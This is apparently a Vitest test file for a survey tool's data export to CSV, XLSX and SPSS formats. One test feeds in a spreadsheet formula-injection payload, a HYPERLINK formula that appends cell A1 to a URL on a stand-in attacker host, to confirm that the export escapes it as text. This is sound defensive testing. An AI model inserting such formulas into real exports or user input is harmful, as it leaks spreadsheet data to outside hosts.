import readXlsxFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/domain/export/csv';
import { spssNames } from '../../src/domain/export/spss';
import { surveyVariables } from '../../src/domain/export/variables';
import type { ResponseRecord } from '../../src/domain/response';
import type { LocalizedText } from '../../src/domain/survey-schema';
import {
  exportBaseName,
  studyData,
  studyFiles,
  type ExportFile,
  type ExportFileKind,
  type ExportOptions,
} from '../../src/state/study/data-export';
import { createSession } from '../../src/state/facilitator/sessions';
import { allTypes, studyJson } from '../fixtures/surveys';
import { freshDatabases } from '../fixtures/databases';
import { putCollected } from '../../src/storage/collected-store';

const text = (t: LocalizedText | undefined) => t?.nl ?? '';
const forR: ExportOptions = { delimiter: ',', bom: false };
const fileOf = (files: ExportFile[], kind: ExportFileKind) => files.find((f) => f.kind === kind)!;
const textOf = (files: ExportFile[], kind: ExportFileKind) => fileOf(files, kind).blob.text();
const database = freshDatabases('export');

const survey = allTypes();
const answersA = {
  'prof.role': 'teacher',
  'prof.school': 'b',
  'matrix.r1': 1,
  'matrix.r2': 5,
  rank: ['z', 'x', 'y'],
  'lik.st1': 9,
  'lik.st2': 2,
  open: 'Ja, "zeker"',
  single: 'other',
  'single.other': 'Iets, met komma',
  multi: ['a', 'c'],
  num: 7,
};
const answersB = { 'prof.role': 'pupil', 'prof.school': 'a', single: 'b', 'lik.st1': 1 };

async function laptop(
  definition = JSON.stringify(allTypes()),
  first: Record<string, unknown> = answersA,
) {
  const db = database();
  const session = await createSession(db, { definition, title: 'T', school: 'De Klimop' });
  const put = (i: number, answers: Record<string, unknown>, status: ResponseRecord['status']) => {
    const response = {
      id: `r${i}`.padEnd(21, 'x'),
      surveyId: survey.id,
      surveyVersion: survey.version,
      status,
      language: 'nl',
      startedAt: 1000 + i,
      updatedAt: 2000,
      ...(status === 'submitted' ? { submittedAt: 3000 } : {}),
      answers,
    } as ResponseRecord;
    return putCollected(db, {
      key: `d${i}/${response.id}`,
      sessionId: session.id,
      deviceId: `d${i}`,
      responseId: response.id,
      status: 'valid',
      response,
      receivedAt: 1,
    });
  };
  await put(1, first, 'submitted');
  await put(2, answersB, 'in-progress');
  return { db, session };
}

describe('data exports', () => {
  it('the wide CSV parses back to the same values, codes and all', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const files = await studyFiles(result.data, { delimiter: ',', bom: true });
    const rows = parseCsv(await textOf(files, 'wide'));
    const header = rows[0]!;
    const first = Object.fromEntries(header.map((name, i) => [name, rows[1]![i]]));
    expect(first).toMatchObject({
      response_id: 'r1'.padEnd(21, 'x'),
      session_school: 'De Klimop',
      status: 'submitted',
      'prof.role': '1', // teacher is the first role
      'prof.school': 'b',
      'matrix.r1': '1',
      'matrix.r2': '5',
      'rank.x': '2',
      'rank.y': '3',
      'rank.z': '1',
      'lik.st1': '9',
      single: '3', // "other" is coded after the two options
      'single.other': 'Iets, met komma',
      'multi.a': '1',
      'multi.b': '0',
      'multi.c': '1',
      open: 'Ja, "zeker"',
      num: '7',
    });
    const second = Object.fromEntries(header.map((name, i) => [name, rows[2]![i]]));
    expect(second).toMatchObject({ 'prof.role': '2', single: '2', 'matrix.r1': '', 'multi.a': '' });
    expect(rows).toHaveLength(3);
  });

  it('the long CSV has one row per answered variable', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text, { submittedOnly: true });
    if (!result.ok) throw new Error(result.reason);
    expect(result.data.long.rows.every((row) => row[0] === 'r1'.padEnd(21, 'x'))).toBe(true);
    expect(result.data.long.rows.find((row) => row[2] === 'lik.st1')?.[3]).toBe(9);
  });

  it('the SPSS syntax declares every variable, its label, value labels and "no opinion" as missing', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const sps = await textOf(await studyFiles(result.data, forR), 'sps');
    const variables = surveyVariables(survey, text);
    const block = (start: string) =>
      sps.slice(sps.indexOf(start), sps.indexOf('.\n', sps.indexOf(start)));
    const formats = block('/VARIABLES=');
    const labels = block('VARIABLE LABELS');
    for (const v of variables) {
      expect(formats).toMatch(
        new RegExp(
          `\\n    ${v.name.replace('.', '\\.')} ${v.type === 'numeric' ? 'F8\\.0' : 'A\\d+'}`,
        ),
      );
      expect(labels).toContain(`${v.name} '${v.label.replace(/'/g, "''")}'`);
    }
    expect(sps).toContain("  lik.st1\n    1 'eens'\n    2 'oneens'\n    9 'geen mening'");
    expect(sps).toContain('MISSING VALUES lik.st1 (9).');
    expect(sps).toContain('MISSING VALUES lik.st2 (9).');
    expect(sps).toMatch(/\/FILE='t-\d{4}-\d\d-\d\d-spss\.csv'/);
    expect(sps.trim().endsWith('EXECUTE.')).toBe(true);
  });

  it('keeps SPSS names within 64 characters and unique', () => {
    const long = 'a'.repeat(40) + '.' + 'b'.repeat(40);
    const names = spssNames([long, `${long}x`, 'kort']);
    expect(names.every((name) => name.length <= 64)).toBe(true);
    expect(new Set(names).size).toBe(3);
    expect(names[2]).toBe('kort');
  });

  it('the XLSX has a data sheet and a codebook sheet with the same cells', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const xlsx = fileOf(await studyFiles(result.data, forR), 'xlsx').blob;
    const sheets = await readXlsxFile(Buffer.from(await xlsx.arrayBuffer()));
    expect(sheets.map((s) => s.sheet)).toEqual(['data', 'codebook']);
    const data = sheets[0]!.data;
    expect(data[0]).toEqual(result.data.wide.header);
    const single = result.data.wide.header.indexOf('single');
    expect(data[1]![single]).toBe(3);
    expect(sheets[1]!.data[0]).toEqual(['variable', 'label', 'type', 'values', 'missing']);
  });

  it('a typed formula is text in the CSVs and the XLSX, and numbers stay numbers', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
    const { db, session } = await laptop(JSON.stringify(allTypes()), {
      ...answersA,
      open: hostile,
      'single.other': '+32 470 12 34 56',
    });
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const files = await studyFiles(result.data, { delimiter: ',', bom: true });

    const rows = parseCsv(await textOf(files, 'wide'));
    const first = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[1]![i]]));
    expect(first['open']).toBe(`'${hostile}`);
    expect(first['single.other']).toBe("'+32 470 12 34 56");
    expect(first['matrix.r2']).toBe('5');
    const long = parseCsv(await textOf(files, 'long'));
    expect(long.find((r) => r[2] === 'open')?.[3]).toBe(`'${hostile}`);

    const xlsx = fileOf(files, 'xlsx').blob;
    const [data] = await readXlsxFile(Buffer.from(await xlsx.arrayBuffer()));
    const header = data!.data[0] as string[];
    const cells = data!.data[1]!;
    expect(cells[header.indexOf('open')]).toBe(`'${hostile}`);
    expect(cells[header.indexOf('matrix.r2')]).toBe(5); // a number cell, not text
    expect(cells[header.indexOf('survey_version')]).toBe(2);
  });

  it('writes CSVs a Dutch or Belgian Excel splits into columns, named after the session and the day', async () => {
    const { db, session } = await laptop(JSON.stringify(allTypes()), {
      ...answersA,
      open: 'Eén; twee',
    });
    const result = await studyData(db, [session.id], text, { timeZone: 'Europe/Brussels' });
    if (!result.ok) throw new Error(result.reason);
    const date = new Date(2026, 11, 3);
    const files = await studyFiles(result.data, { delimiter: ';', bom: true, date });
    expect(files.map((f) => f.name)).toEqual([
      't-2026-12-03-data.csv',
      't-2026-12-03-data-long.csv',
      't-2026-12-03-codebook.csv',
      't-2026-12-03.xlsx',
      't-2026-12-03-spss.sps',
      't-2026-12-03-spss.csv',
    ]);
    const wide = await textOf(files, 'wide');
    expect(wide.split('\r\n')[0]).toMatch(/^response_id;session_id;/);
    const bytes = new Uint8Array(await fileOf(files, 'wide').blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the byte-order mark
    const rows = parseCsv(wide, ';');
    const first = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[1]![i]]));
    expect(first['open']).toBe('Eén; twee');
    // 3000 ms after 1970 in UTC, and on the clock in Brussels (UTC+1 in winter).
    expect(first['submitted_at']).toBe('1970-01-01T00:00:03.000Z');
    expect(first['submitted_local']).toBe('1970-01-01 01:00:03');
    // SPSS reads its own CSV: comma-separated whatever the spreadsheet CSVs use.
    expect((await textOf(files, 'spssCsv')).split('\r\n')[0]).toMatch(/^response_id,session_id,/);
    expect(await textOf(files, 'sps')).toContain(
      "started_local 'started, local time (Europe/Brussels)'",
    );
  });

  it('names the files of several sessions after the questionnaire', async () => {
    const { db, session } = await laptop();
    const other = await createSession(db, {
      definition: JSON.stringify(allTypes()),
      title: 'U',
      school: 'X',
    });
    const result = await studyData(db, [session.id, other.id], text);
    if (!result.ok) throw new Error(result.reason);
    const [wide] = await studyFiles(result.data, { ...forR, date: new Date(2026, 0, 9) });
    expect(wide!.name).toBe(`${exportBaseName(text(survey.title), new Date(2026, 0, 9))}-data.csv`);
    expect(exportBaseName('Focusgroep Sint-Jozef (Coördinatie) ', new Date(2026, 0, 9))).toBe(
      'focusgroep-sint-jozef-coordinatie-2026-01-09',
    );
    expect(
      exportBaseName(
        'Onderwijs na corona: welbevinden, gelijke kansen en digitalisering',
        new Date(2026, 0, 9),
      ),
    ).toBe('onderwijs-na-corona-welbevinden-gelijke-kansen-2026-01-09');
  });

  it('refuses to put sessions of different questionnaires in one table', async () => {
    const a = await laptop();
    const other = await createSession(a.db, {
      definition: JSON.stringify(studyJson()),
      title: 'S',
      school: 'X',
    });
    expect(await studyData(a.db, [a.session.id, other.id], text)).toEqual({
      ok: false,
      reason: 'differentSurveys',
    });
  });
});
